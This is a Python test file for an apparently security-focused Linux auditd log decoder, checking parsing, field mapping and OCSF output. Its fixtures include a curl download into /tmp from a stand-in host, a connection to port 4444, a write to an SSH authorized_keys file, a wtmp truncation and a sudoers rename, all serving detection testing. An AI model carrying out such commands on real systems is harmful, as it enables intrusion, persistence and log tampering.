"""What rules, models and people see of Linux audit events."""

from __future__ import annotations

import errno
import json
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from connectors._auditd import tables
from connectors._auditd.event import Event, decode
from connectors._auditd.record import head, pairs, parse, text
from connectors._auditd.socket_address import Peer, peer
from connectors.auditd import Auditd
from schemas.ocsf import validate
from sentinel.errors import DecodeError, MappingError
from sentinel.settings import load

AUDITD = Auditd()
DECODER = AUDITD.decoder(frozenset())
GOLDEN = Path(__file__).parent / "golden" / "auditd"
DATA = load().data
BEATS = sorted(DATA.glob("beats/auditbeat/testdata/*.log"))
OTRF = sorted(DATA.glob("otrf/datasets/atomic/linux/*/host/*.zip"))
STAMP = "audit(1760000000.123:7)"


def units(raw: bytes) -> list[bytes]:
    """Put a log together."""
    assembler = AUDITD.assembler()
    return [*assembler.feed(list(AUDITD.split(raw)), 0), *assembler.flush()]


def golden(case: str) -> Event:
    """Return the event of a golden case."""
    return decode(units((GOLDEN / f"{case}.raw.log").read_bytes())[0])


def event(*records: str) -> Event:
    """Return the event of records given as ``TYPE body``."""
    lines = [r.split(" ", 1) for r in records]
    return decode("\n".join(f"type={k} msg={STAMP}: {body}" for k, body in lines).encode())


def ask(found: Event, field: str) -> Any:
    """Return what a rule gets for `field`; several values as a list."""
    value = DECODER.getter(field)(found)
    hash(value)  # a matcher remembers answers by value
    return list(value) if isinstance(value, tuple) else value


@pytest.mark.parametrize(
    ("line", "node", "kind"),
    [
        (f"type=SYSCALL msg={STAMP}: pid=1", "", "SYSCALL"),
        (f"node=web1 type=SYSCALL msg={STAMP}: pid=1", "web1", "SYSCALL"),
        (f"Oct  9 08:53:20 web1 audispd: node=web2 type=CWD msg={STAMP}: pid=1", "web2", "CWD"),
        (f"<5>[ 12.5] audit: type=1300 {STAMP}: pid=1", "", "SYSCALL"),
        (f"kernel: audit: type=1400 {STAMP}: pid=1", "", "AVC"),
        (f"type=UNKNOWN[1334] msg={STAMP}: pid=1", "", "BPF"),
        (f"type=UNKNOWN[1999] msg={STAMP}: pid=1", "", "1999"),
    ],
)
def test_every_form_of_a_record_is_read(line: str, node: str, kind: str) -> None:
    found = decode(line.encode())
    assert (found.node, found.records[0].type) == (node, kind)
    assert (found.time, found.serial, found.get("pid")) == (1_760_000_000_123, 7, "1")
    assert found.native_id == f"{node}:1760000000.123:7"


@pytest.mark.parametrize(
    "line",
    [
        "",
        "hello",
        "type=SYSCALL",
        "type=SYSCALL msg=audit(): pid=1",
        "type=SYSCALL msg=audit(12.5): pid=1",
        f"type=SYS\0CALL msg={STAMP}: pid=1",
        f"type=SYSCALL msg={STAMP}: pid=1\nhello",
        f"type=SYSCALL msg={STAMP}: pid=1\ntype=PATH msg=audit(1760000000.123:8): item=0",
    ],
)
def test_what_is_no_event_is_refused(line: str) -> None:
    with pytest.raises(DecodeError):
        decode(line.encode())


def test_an_absurd_time_is_refused() -> None:
    with pytest.raises(MappingError, match="before 2100"):
        decode(b"type=SYSCALL msg=audit(99999999999.000:1): pid=1")


def test_nuls_that_a_crash_left_between_records_do_not_matter() -> None:
    assert len(units(b"\0" * 512 + f"type=USER_LOGIN msg={STAMP}: pid=1\n".encode())) == 1


def test_a_users_text_does_not_replace_what_the_kernel_says() -> None:
    found = event("USER_LOGIN pid=1 uid=0 auid=1000 msg='op=login auid=0 acct=\"x\" res=failed'")
    assert (found.get("auid"), found.get("op"), found.success) == ("1000", "login", False)


def test_a_denial_keeps_result_and_permissions() -> None:
    found = golden("access_denied")
    assert (ask(found, "seresult"), ask(found, "seperms")) == ("denied", "read,open")


@given(st.binary(min_size=1, max_size=60))
def test_untrusted_strings_survive_their_encoding(raw: bytes) -> None:
    """As ``audit_log_untrustedstring`` of the kernel writes them."""
    plain = all(0x21 <= byte <= 0x7E and byte != 0x22 for byte in raw)
    written = f'"{raw.decode()}"' if plain else raw.hex().upper()
    assert text(written) == raw.decode("utf-8", "backslashreplace")


WORD = st.text(
    st.characters(min_codepoint=0x21, max_codepoint=0x7E, exclude_characters='="(')
).filter(bool)


@given(st.dictionaries(WORD, WORD | WORD.map(lambda value: f'"{value}"')))
def test_the_fast_way_to_read_a_record_gives_what_the_careful_one_does(
    fields: dict[str, str],
) -> None:
    body = " ".join(f"{name}={value}" for name, value in fields.items())
    line = f"type=SYSCALL msg={STAMP}: {body}".encode()
    found = head(line)
    assert found is not None
    assert parse(line, found).fields == pairs(body) == fields


@pytest.mark.skipif(sys.platform != "linux", reason="other systems number errors otherwise")
def test_error_numbers_are_those_of_this_system() -> None:
    twice = {errno.EAGAIN, errno.EDEADLK, errno.EOPNOTSUPP}  # two names for one number
    here = {-number: name for number, name in errno.errorcode.items() if number not in twice}
    assert here.items() <= tables.ERRNO.items()


@given(st.lists(st.binary(max_size=200), min_size=1, max_size=12), st.integers(2, 50))
def test_arguments_survive_being_cut_into_fragments(values: list[bytes], width: int) -> None:
    values = [value.replace(b"\0", b"") for value in values]
    lines, fields = [], [f"argc={len(values)}"]
    for index, value in enumerate(values):
        written = value.hex().upper()
        step = 2 * width
        if len(written) > step:
            fields.append(f"a{index}_len={len(written)}")
            pieces = range(0, len(written), step)
            fields += [f"a{index}[{n}]={written[at : at + step]}" for n, at in enumerate(pieces)]
        else:
            fields.append(f"a{index}={written}" if value else f'a{index}=""')
        if index % 3 == 2:
            lines.append(" ".join(fields))
            fields = []
    found = event(*(f"EXECVE {body}" for body in [*lines, " ".join(fields)]))
    assert found.arguments == [value.decode("utf-8", "backslashreplace") for value in values]


@pytest.mark.parametrize("junk", ["a" * 200_000, '"' * 200_000, "= " * 100_000, 'a="' * 60_000])
@pytest.mark.parametrize("kind", ["SYSCALL", "AVC", "USER_LOGIN"])
def test_a_record_is_read_in_time_linear_in_its_length(kind: str, junk: str) -> None:
    line = f"type={kind} msg={STAMP}: avc:  denied  {{ {junk} msg='{junk}".encode()
    found = head(line)
    assert found is not None
    start = time.process_time()
    parse(line, found)
    assert time.process_time() - start < 30  # 0.1 s; quadratic would be minutes


@pytest.mark.parametrize(
    ("saddr", "want"),
    [
        ("02000050A9FEA9FE0000000000000000", Peer("ipv4", "169.254.169.254", 80)),
        (
            "0A00D5B20000000020010DB800000000000000000000000700000000",
            Peer("ipv6", "2001:db8::7", 54706),
        ),
        (
            "0A00D5B20000000000000000000000000000FFFFC633640700000000",
            Peer("ipv6", "198.51.100.7", 54706),
        ),
        ("01002F72756E2F6100", Peer("unix", path="/run/a")),
        ("0100002F746D702F61", Peer("unix", path="@/tmp/a")),
        ("100000000000000000000000", Peer("netlink")),
        ("1100", Peer("17")),
        ("02", None),
        ("zz", None),
    ],
)
def test_socket_addresses(saddr: str, want: Peer | None) -> None:
    assert peer(saddr) == want


@pytest.mark.parametrize(
    ("arch", "number", "name"),
    [
        ("c000003e", "59", "execve"),
        ("40000003", "11", "execve"),
        ("c00000b7", "221", "execve"),
        ("40000028", "11", "execve"),
        ("c000003e", str(0x40000000 + 520), "execve"),  # x32
        ("c000003e", "99999", "99999"),
        ("deadbeef", "59", "59"),
    ],
)
def test_calls_have_the_name_that_their_architecture_gives_them(
    arch: str, number: str, name: str
) -> None:
    assert tables.syscall_name(arch, number) == name


def test_process_fields_are_there_for_a_program_start_alone() -> None:
    start, made, net = (
        golden(case)
        for case in ("process_launch_enriched", "file_create_relative", "network_connect_ipv4")
    )
    assert ask(start, "@category") == "process_creation"
    assert ask(start, "process_creation.Image") == ask(start, "Image") == "/usr/bin/curl"
    assert ask(start, "CommandLine") == "curl -s http://198.51.100.7/a b -o /tmp/x"
    assert (ask(start, "User"), ask(start, "LogonId")) == ("www-data", "7")
    assert [ask(made, "Image"), ask(net, "Image"), ask(start, "TargetFilename")] == [None] * 3
    assert ask(start, "ParentImage") is None


def test_a_start_that_failed_is_no_process_creation() -> None:
    assert ask(golden("process_launch_refused"), "@category") is None


def test_file_events_are_files_made_or_emptied() -> None:
    made = golden("file_create_relative")
    assert ask(made, "@category") == "file_event"
    assert ask(made, "file_event.TargetFilename") == "/home/ana/.ssh/authorized_keys"
    assert ask(made, "file_event.Image") == "/usr/bin/tee"
    emptied = event(
        'SYSCALL arch=c000003e syscall=257 success=yes a0=ffffff9c a2=241 pid=1 exe="/bin/sh"',
        'CWD cwd="/var/log"',
        'PATH item=0 name="wtmp" mode=0100664 nametype=NORMAL',
    )
    assert ask(emptied, "TargetFilename") == "/var/log/wtmp"
    assert ask(golden("file_open_hexadecimal_name"), "@category") is None


def test_network_connections_are_connects_to_addresses() -> None:
    found = golden("network_connect_ipv4")
    assert ask(found, "@category") == "network_connection"
    assert ask(found, "DestinationIp") == "198.51.100.7"
    assert ask(found, "DestinationPort") == 4444
    assert ask(found, "Initiated") == "true"
    others = ("network_connect_refused", "network_connect_unix", "network_accept_ipv6")
    assert [ask(golden(case), "@category") for case in others] == [None] * 3


def test_raw_fields_are_lists_over_the_records() -> None:
    found = golden("file_rename")
    assert ask(found, "type") == ["SYSCALL", "CWD", "PATH", "PROCTITLE"]
    assert ask(found, "nametype") == ["PARENT", "DELETE", "CREATE"]
    names = ["/etc/", "sudoers.new", "sudoers", "/etc", "/etc/sudoers.new", "/etc/sudoers"]
    assert ask(found, "name") == names
    assert ask(found, "syscall") == ["82", "rename"]
    assert (ask(found, "SYSCALL"), ask(found, "ARCH")) == ("rename", "x86_64")
    assert (ask(found, "UID"), ask(found, "AUID"), ask(found, "key")) == ("root", "1000", "watch")


def test_arguments_of_program_and_call_are_both_found() -> None:
    found = golden("process_launch_enriched")
    assert ask(found, "a0") == ["curl", "7ffd1000"]
    assert ask(found, "a2") == ["http://198.51.100.7/a b", "0"]
    assert ask(found, "a4") == "/tmp/x"
    assert ask(found, "proctitle") == "curl -s http://198.51.100.7/a b -o /tmp/x"


def test_errors_have_their_names() -> None:
    assert ask(golden("network_connect_refused"), "exit") == ["-111", "ECONNREFUSED"]


def test_addresses_come_from_the_dump_too() -> None:
    found = golden("network_connect_ipv4")
    assert [ask(found, name) for name in ("laddr", "lport", "fam")] == [
        "198.51.100.7",
        4444,
        "ipv4",
    ]


def test_rules_keyed_several_times_have_several_keys() -> None:
    assert ask(event("SYSCALL key=65786563013634626974"), "key") == ["exec", "64bit"]


def test_the_text_for_keywords_is_decoded() -> None:
    found = DECODER.text(golden("process_launch_long_argument"))  # type: ignore[attr-defined]
    assert f"bash -c echo {'x' * 40}" in found


def test_who_acts_stays_the_same_through_su_and_sudo() -> None:
    summary = AUDITD.summarise(golden("process_launch_enriched"))
    assert summary.entity == "web1/ana"
    assert summary.operation == "/usr/bin/curl"
    assert (summary.service, summary.region) == ("execve", "web1")
    assert AUDITD.summarise(golden("login_failed")).src_ip == "198.51.100.7"
    assert AUDITD.summarise(golden("service_stopped")).entity == "host/root"


@pytest.mark.parametrize("field", ["no_such_field", "process_creation.NoSuchField", "a9", "OAUID"])
def test_a_field_that_an_event_lacks_is_none(field: str) -> None:
    assert ask(golden("file_delete"), field) is None


def beats() -> Iterator[Any]:
    """Yield every event of the logs of auditbeat with what it made of it."""
    for log in BEATS:
        expected = json.loads(log.with_name(log.name + "-expected.json").read_bytes())
        found = {decode(unit).serial: unit for unit in units(log.read_bytes())}
        for want in expected:
            serial = want["auditd"]["sequence"]
            yield pytest.param(found[serial], want, id=f"{log.stem}: {serial}")


@pytest.mark.skipif(not BEATS, reason=f"auditbeat's logs are not under {DATA}")
@pytest.mark.parametrize(("unit", "want"), list(beats()))
def test_events_are_those_of_auditbeat(unit: bytes, want: dict[str, Any]) -> None:
    found, out = decode(unit), AUDITD.to_ocsf(unit)
    assert validate(out) == []
    assert found.reason.lower() == want["auditd"]["message_type"]
    assert (
        out["status"]
        == {"success": "Success", "failure": "Failure", "unknown": "Unknown"}[
            want["event"]["outcome"]
        ]
    )
    process = want.get("process", {})
    assert found.get("pid") == str(process.get("pid", ""))
    assert found.get("exe") == process.get("executable", "")
    assert found.title == process.get("title", "")
    names = [path["name"] for path in want["auditd"].get("paths", [])]
    assert [path.name for path in found.paths] == names
    assert found.get("addr") == want.get("source", {}).get("ip", found.get("addr"))
    login = want["user"].get("audit")  # it gives none for the record of a login itself
    assert login is None or found.get("auid") == login["id"]


@pytest.mark.skipif(not OTRF, reason=f"OTRF's Linux logs are not under {DATA}")
@pytest.mark.parametrize("archive", OTRF, ids=[path.stem for path in OTRF])
def test_the_attacks_of_otrf_are_program_starts(archive: Path) -> None:
    with ZipFile(archive) as files:
        found = [unit for name in files.namelist() for unit in units(files.read(name))]
    assert found
    for unit in found:
        out = AUDITD.to_ocsf(unit)
        assert validate(out) == []
        assert out["type_name"] == "Process Activity: Launch"
        assert out["process"]["cmd_line"].split()[0] == out["process"]["name"]
